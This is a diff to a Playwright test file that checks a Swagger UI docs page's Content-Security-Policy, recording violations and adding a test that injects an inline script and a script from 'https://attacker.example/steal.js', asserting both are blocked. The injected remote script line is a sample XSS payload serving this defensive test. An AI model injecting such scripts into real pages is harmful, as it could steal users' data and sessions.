@@ -120,13 +120,29 @@ def _register(base_url: str) -> str:
     return email
 
 
+# Runs in the page before its own scripts: keeps what its Content-Security-
+# Policy refused.
+_RECORD_VIOLATIONS = """
+window.cspViolations = [];
+document.addEventListener("securitypolicyviolation", (event) => {
+  window.cspViolations.push(`${event.effectiveDirective} ${event.blockedURI}`);
+});
+"""
+
+
 class DocsPage:
     """Swagger UI's /docs, used as a person would: Try it out, Execute."""
 
     def __init__(self, page: Page, base_url: str) -> None:
         self.page = page
+        page.add_init_script(_RECORD_VIOLATIONS)
         page.goto(f"{base_url}/docs")
         page.locator(".swagger-ui .opblock").first.wait_for(state="visible")
+
+    def violations(self) -> list[str]:
+        """Return what the page's Content-Security-Policy refused so far."""
+        found: list[str] = self.page.evaluate("window.cspViolations")
+        return found
 
     def operation(self, method: str, path: str) -> Locator:
         """Return the operation's block, opened, in "Try it out" mode."""
@@ -206,6 +222,33 @@ def test_docs_page_renders_offline_and_logs_in(page: Page, base_url: str) -> Non
         _bearer_session_through_the_docs(docs, email)
     foreign = [url for url in requested if not url.startswith(f"{base_url}/")]
     assert not foreign, foreign
+    # The page's own policy let all of it run.
+    assert docs.violations() == []
+
+
+def test_docs_page_refuses_a_script_injected_into_it(page: Page, base_url: str) -> None:
+    """What an XSS in Swagger UI would add to the page does not run.
+
+    The page's own scripts run (it rendered), an inline script added to it
+    does not, nor one from another origin.
+    """
+    docs = DocsPage(page, base_url)
+    page.evaluate(
+        """() => {
+          for (const source of ["window.injected = true", null]) {
+            const script = document.createElement("script");
+            if (source) script.textContent = source;
+            else script.src = "https://attacker.example/steal.js";
+            document.body.append(script);
+          }
+        }"""
+    )
+    page.wait_for_function("window.cspViolations.length >= 2")
+    assert page.evaluate("window.injected") is None
+    assert sorted(docs.violations()) == [
+        "script-src-elem https://attacker.example/steal.js",
+        "script-src-elem inline",
+    ]
 
 
 def _cookie_session_through_the_docs(docs: DocsPage, email: str) -> None:
